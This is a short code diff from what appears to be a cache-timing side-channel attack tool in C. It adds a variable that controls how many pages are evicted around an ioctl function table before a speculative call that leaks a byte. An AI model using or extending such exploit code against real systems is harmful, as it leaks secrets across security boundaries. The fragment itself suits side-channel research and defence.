@@ -27,6 +27,9 @@ enum {
 static const uint8_t *array;
 static int file;
 
+/* How far away the table of functions is to be. */
+static long pages_to_evict;
+
 static inline int has_user_of_secret(void)
 {
 	return options.service || options.call;
@@ -43,6 +46,7 @@ static inline void prepare_call(void)
 	array = map_gadget(options.gadget);
 	calibrate();
 	prepare_eviction();
+	pages_to_evict = second_level_pages;
 	if (pipe(pipes))
 		err(1, "pipe");
 	file = pipes[0];
@@ -51,7 +55,7 @@ static inline void prepare_call(void)
 static inline void make_call_late(void)
 {
 	flush_probe(array + SHARED_PROBE);
-	evict(options.slow + IOCTL_IN_TABLE, second_level_pages);
+	evict(options.slow + IOCTL_IN_TABLE, pages_to_evict);
 }
 
 /* Makes the call, with another history than before. Returns the byte that came out, if one did. */
